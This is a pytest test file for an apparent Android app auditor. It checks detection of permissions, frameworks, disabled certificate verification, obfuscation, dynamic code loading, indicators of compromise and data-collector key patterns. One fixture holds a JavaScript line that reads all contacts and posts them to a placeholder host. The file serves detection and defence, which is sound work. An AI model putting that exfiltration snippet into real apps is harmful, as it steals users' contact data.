"""Permissions, frameworks, certificate checks, renaming, code loaded later, indicators."""

from __future__ import annotations

from dataclasses import replace

import pytest

from auditor.catalog import Catalog, Entry
from auditor.facts.collect import collect_facts
from auditor.facts.dynamic import dynamic_code_limits
from auditor.facts.entries import FrameworkEntry, HostEntry, IndicatorEntry, PackerEntry
from auditor.facts.families import family_hints
from auditor.facts.frameworks import detect_frameworks
from auditor.facts.hybrid.read import read_hybrid
from auditor.facts.indicators import match_indicators
from auditor.facts.libraries import Owners
from auditor.facts.names import HostMap, Paths, PrefixMap, glob_matches
from auditor.facts.obfuscation import measure_obfuscation
from auditor.facts.permissions import permission_facts
from auditor.facts.tls import TlsFact, tls_facts
from auditor.model import DataType, Manifest, PermissionRequest, PermissionUse
from tests.facts_fixture import FakeCode, manifest, package, place

CATALOG = Catalog()
NOBODY = Owners(())
DEX_LOADER = ("Ldalvik/system/DexClassLoader;", "<init>")


def test_permissions_open_data_types() -> None:
    of = manifest(
        permissions=[
            PermissionRequest("android.permission.READ_SMS", 28),
            PermissionRequest("android.permission.READ_SMS", 22),
            PermissionRequest("android.permission.READ_CONTACTS", 22),
            PermissionRequest("android.permission.READ_CONTACTS"),
            PermissionRequest("android.permission.INTERNET"),
        ]
    )
    assert permission_facts(of, CATALOG) == (
        PermissionUse("android.permission.INTERNET"),
        PermissionUse("android.permission.READ_CONTACTS", (DataType("contacts"),)),
        PermissionUse("android.permission.READ_SMS", (DataType("sms"),), 28),
    )


@pytest.mark.parametrize(
    ("files", "classes", "name", "expected"),
    [
        pytest.param({}, ["Lcom/a/B;"], "com.a", [], id="plain"),
        pytest.param({"lib/arm64-v8a/libflutter.so": b""}, [], "com.a", ["flutter"], id="Flutter"),
        pytest.param(
            {"assets/index.android.bundle": b"x"},
            ["Lcom/facebook/react/A;"],
            "com.a",
            ["react_native"],
            id="React Native",
        ),
        pytest.param({}, ["Lio/dcloud/A;"], "uni.UNI04A1B2C", ["uni_app"], id="uni-app"),
        pytest.param(
            {"assets/www/cordova.js": b""},
            ["Lorg/apache/cordova/A;"],
            "com.a",
            ["cordova"],
            id="Cordova",
        ),
        pytest.param(
            {"assets/capacitor.config.json": b""},
            ["Lcom/getcapacitor/A;"],
            "com.a",
            ["capacitor"],
            id="Capacitor",
        ),
        pytest.param(
            {"assemblies/App.dll": b""},
            ["Lmono/MonoRuntimeProvider;"],
            "com.a",
            ["xamarin"],
            id="Xamarin",
        ),
        pytest.param({"lib/arm64-v8a/libunity.so": b""}, [], "com.a", ["unity"], id="Unity"),
        pytest.param({}, ["Lcom/e4a/runtime/A;"], "com.a", ["e4a"], id="E4A"),
        pytest.param(
            {"assets/widget/config.xml": b""},
            ["Lorg/zywx/wbpalmstar/A;"],
            "com.a",
            ["apicloud", "appcan"],
            id="AppCan",
        ),
    ],
)
def test_frameworks(
    files: dict[str, bytes], classes: list[str], name: str, expected: list[str]
) -> None:
    found, _ = detect_frameworks(package(files, manifest(name)), FakeCode(classes), CATALOG)
    assert [f.id for f in found] == expected


def test_unread_code_is_a_limit() -> None:
    held = package({"lib/arm64-v8a/libapp.so": b"", "lib/arm64-v8a/libflutter.so": b""})
    found, limits = detect_frameworks(held, FakeCode(), CATALOG)
    assert [f.visible for f in found] == [False]
    assert [(x.kind, x.where) for x in limits] == [("hybrid", "lib/arm64-v8a/libapp.so")]


def test_scripts_that_are_not_there_are_a_limit() -> None:
    _, limits = detect_frameworks(package(), FakeCode(["Lio/dcloud/A;"]), CATALOG)
    assert [(x.kind, x.where) for x in limits] == [("hybrid", "uni_app")]
    assert "not in the package" in limits[0].why


def test_page_shell_only_when_the_code_opens_the_page() -> None:
    held = package({"assets/h5/index.html": b"<html>", "assets/h5/app.js": b""})
    assert detect_frameworks(held, FakeCode(), CATALOG)[0] == ()
    code = FakeCode(strings={"file:///android_asset/h5/index.html": []})
    assert [f.id for f in detect_frameworks(held, code, CATALOG)[0]] == ["h5_shell"]
    terms = package({"assets/terms.html": b"<html>"})
    assert detect_frameworks(terms, code, CATALOG)[0] == ()


def test_certificate_checks_switched_off() -> None:
    trust, verifier = "Ljavax/net/ssl/X509TrustManager;", "Ljavax/net/ssl/HostnameVerifier;"
    code = FakeCode(
        implementors={trust: ["La/T;", "La/U;"], verifier: ["La/V;", "La/W;"]},
        shapes={
            ("La/T;", "checkServerTrusted"): "empty",
            ("La/U;", "checkServerTrusted"): "other",
            ("La/V;", "verify"): "true",
            ("La/W;", "verify"): "other",
        },
    )
    of = Manifest(package="com.a", cleartext=True, user_certificates=True)
    assert tls_facts(of, code, NOBODY) == (
        TlsFact("any_hostname", "La/V;", "app", "its verify accepts every host name"),
        TlsFact("cleartext", "AndroidManifest.xml", "app", "the app permits unencrypted traffic"),
        TlsFact("trust_all", "La/T;", "app", "its checkServerTrusted accepts every certificate"),
        TlsFact(
            "user_certificates",
            "network_security_config",
            "app",
            "the app trusts certificates that the user installed",
        ),
    )


HANDLER = ("Landroid/webkit/SslErrorHandler;", "proceed")
ALLOW_ALL = ("Lorg/apache/http/conn/ssl/SSLSocketFactory;", "ALLOW_ALL_HOSTNAME_VERIFIER")
NO_OP = ("Lorg/apache/http/conn/ssl/NoopHostnameVerifier;", "<init>")


@pytest.mark.parametrize(
    ("calls", "reads", "kind"),
    [
        pytest.param([HANDLER], [], "ignores_errors", id="web page"),
        pytest.param([], [ALLOW_ALL], "any_hostname", id="Apache's constant"),
        pytest.param([NO_OP], [], "any_hostname", id="Apache's class"),
    ],
)
def test_library_calls_that_accept_everything(
    calls: list[tuple[str, str]], reads: list[tuple[str, str]], kind: str
) -> None:
    at = [place("Lcom/suixinhua/app/Net;->go()V", 6)]
    code = FakeCode(calls=dict.fromkeys(calls, at), field_reads=dict.fromkeys(reads, at))
    found = tls_facts(Manifest(package="com.a"), code, NOBODY)
    assert [(f.kind, f.where, f.owner) for f in found] == [
        (kind, "Lcom/suixinhua/app/Net;->go()V@6", "app")
    ]


@pytest.mark.parametrize(
    ("names", "level", "short"),
    [
        pytest.param([f"com/app/Screen{n}" for n in range(20)], "none", 0, id="plain"),
        pytest.param([f"a/{chr(97 + n)}" for n in range(20)], "heavy", 20, id="R8"),
        pytest.param([f"a/{'lI' * 4}{n * 'I'}" for n in range(20)], "heavy", 20, id="look-alikes"),
        pytest.param(
            [f"a/{chr(0x4E00 + n)}{chr(0x4E10)}费" for n in range(20)],
            "none",
            0,
            id="Chinese names",
        ),
        pytest.param(["a/a", "a/b"], "none", 2, id="too few to say"),
    ],
)
def test_obfuscation(names: list[str], level: str, short: int) -> None:
    found = measure_obfuscation([f"L{n};" for n in names], NOBODY)
    assert (found.level, found.short, bool(found.effect)) == (level, short, level != "none")


def test_code_loaded_at_run_time() -> None:
    at = place("Lcom/suixinhua/app/Plug;->go()V", 12)
    limits = dynamic_code_limits(package(), FakeCode(calls={DEX_LOADER: [at]}), NOBODY, ())
    assert [(x.kind, x.where) for x in limits] == [
        ("dynamic_code", "Lcom/suixinhua/app/Plug;->go()V@12")
    ]
    assert dynamic_code_limits(package(), FakeCode(), NOBODY, ()) == ()


def test_indicators_show_source_and_date() -> None:
    of = manifest("com.loanbee")
    urls = ["https://api.loanbee.tech/v1", "http://43.129.40.194:8888/x"]
    found = match_indicators(package(of=of), urls, CATALOG)
    assert [(m.kind, m.value, m.date, m.where) for m in found] == [
        ("host", "43.129.40.194:8888", "2022", "http://43.129.40.194:8888/x"),
        ("host", "api.loanbee.tech", "2022-11-30", "https://api.loanbee.tech/v1"),
        ("package", "com.loanbee", "2022-11-30", "package name"),
    ]
    assert all(m.source for m in found)
    assert match_indicators(package(), ["https://sub.api.loanbee.tech/"], CATALOG) == ()


def test_indicators_by_digest_and_by_host_without_scheme() -> None:
    held = package()
    md5 = "45467a74429766b4788488b6b3198cc9"
    held = replace(held, parts=(replace(held.parts[0], md5=md5),))
    at = place("Lcom/suixinhua/app/Net;->go()V", 6)
    code = FakeCode(strings={"api.loanbee.tech": [at]})
    found = match_indicators(held, [], CATALOG, code)
    assert [(m.kind, m.value, m.where) for m in found] == [
        ("host", "api.loanbee.tech", "Lcom/suixinhua/app/Net;->go()V@6"),
        ("md5", md5, "app.apk"),
    ]


KEYS = ["times_contacted", "last_time_contacted", "gaid", "in_time", "up_time", "root_jailbreak"]


@pytest.mark.parametrize(
    ("keys", "spread", "hints"),
    [
        pytest.param(KEYS, False, ["com.x.grab"], id="together"),
        pytest.param(KEYS[:5], False, [], id="too few"),
        pytest.param(KEYS, True, [], id="in several packages"),
    ],
)
def test_families_by_their_keys(keys: list[str], spread: bool, hints: list[str]) -> None:
    names = [f"Lcom/x/{'p' + str(n) if spread else 'grab'}/a/C{n};" for n in range(len(keys))]
    code = FakeCode(strings={k: [place(f"{c}->a()V")] for k, c in zip(keys, names, strict=True)})
    found = family_hints(code, NOBODY, CATALOG)
    assert [(h.package, h.owner, h.keys) for h in found] == [
        (name, "app", tuple(sorted(keys))) for name in hints
    ]


def test_keys_of_fields_and_annotations_count() -> None:
    bean, other = "Lcom/x/grab/a/Bean;", "Lcom/y/Other;"
    code = FakeCode(
        strings={KEYS[0]: [place(f"{bean}->a()V")]},
        fields={KEYS[1]: [bean], KEYS[2]: [bean, other]},
        field_texts=[(bean, key) for key in KEYS[3:]],
    )
    found = family_hints(code, NOBODY, CATALOG)
    assert [(h.package, h.keys) for h in found] == [("com.x.grab", tuple(sorted(KEYS)))]


@pytest.mark.parametrize(
    ("text", "hints"),
    [
        pytest.param(",".join(f'"{key}":1' for key in KEYS), 1, id="keys of an object"),
        pytest.param(",".join(f"{key}:v" for key in KEYS), 1, id="bare keys"),
        pytest.param(",".join(f"x{key}_1:v" for key in KEYS), 0, id="parts of longer names"),
        pytest.param(",".join(f"{key}:v" for key in KEYS[1:]), 0, id="too few"),
    ],
)
def test_families_in_scripts(text: str, hints: int) -> None:
    found = read_hybrid(package({"assets/www/a.js": text.encode()}), FakeCode(), CATALOG).families
    assert [(h.family, h.package, len(h.keys)) for h in found] == [
        ("shared_lending_collector", "assets/www/a.js", 6)
    ] * hints


@pytest.mark.parametrize(
    ("pattern", "text", "fits"),
    [
        ("a*c", "abc", True),
        ("a*c", "ac", True),
        ("a*c", "acb", False),
        ("*.a.com", "x.a.com", True),
        ("ab*ba", "aba", False),
        ("a" + "*a" * 30, "a" * 60 + "b", False),
    ],
)
def test_globs(pattern: str, text: str, fits: bool) -> None:
    assert glob_matches(pattern, text) is fits


def test_maps() -> None:
    prefixes = PrefixMap.of([("com.a", 1), ("com.a.b.", 2)])
    assert [prefixes.find(n) for n in ("com.a.c.D", "com.a.b", "com.ab.C", "com")] == [
        1,
        2,
        None,
        None,
    ]
    hosts = HostMap.of([("a.com", 1), ("*.a.com", 2), ("s3-*.a.com", 3)])
    assert [hosts.find(h) for h in ("a.com", "x.y.a.com", "s3-eu.a.com", "ba.com")] == [
        1,
        2,
        3,
        None,
    ]
    paths = Paths(["lib/x86/libjiagu.so", "assets/a.txt"])
    assert paths.matching(["libjiagu*.so"], [r"assets/.\.txt"]) == [
        "assets/a.txt",
        "lib/x86/libjiagu.so",
    ]


def test_every_catalog_file_is_valid() -> None:
    kinds: dict[str, type[Entry]] = {
        "packers": PackerEntry,
        "frameworks": FrameworkEntry,
        "hosts": HostEntry,
        "indicators": IndicatorEntry,
    }
    assert {
        name: len(CATALOG.entries(name, kind)) > 5 for name, kind in kinds.items()
    } == dict.fromkeys(kinds, True)


def test_collect_is_the_same_on_every_run() -> None:
    script = b"navigator.contacts.find(['*'],function(c){fetch('https://a.example/x',{body:c})});"
    held = package({"assets/www/cordova.js": b"", "assets/www/a.js": script})
    code = FakeCode(["Lorg/apache/cordova/A;"], {"https://b.example/": []})
    first = collect_facts(held, code, CATALOG)
    assert first == collect_facts(held, code, CATALOG)
    assert first.urls.endpoints == ("https://b.example/",)
    assert [f.endpoint for f in first.hybrid.flows] == ["https://a.example/x"]
    assert [e.data_types for e in first.hybrid.endpoints] == [("contacts",)]


def test_paths_longer_than_any_library_has_are_not_compared() -> None:
    from auditor.facts.names import Paths

    paths = Paths([f"{'a' * 60_000}/libx.so", "lib/x86/libx.so"])
    assert paths.matching(["libx.so"]) == ["lib/x86/libx.so"]
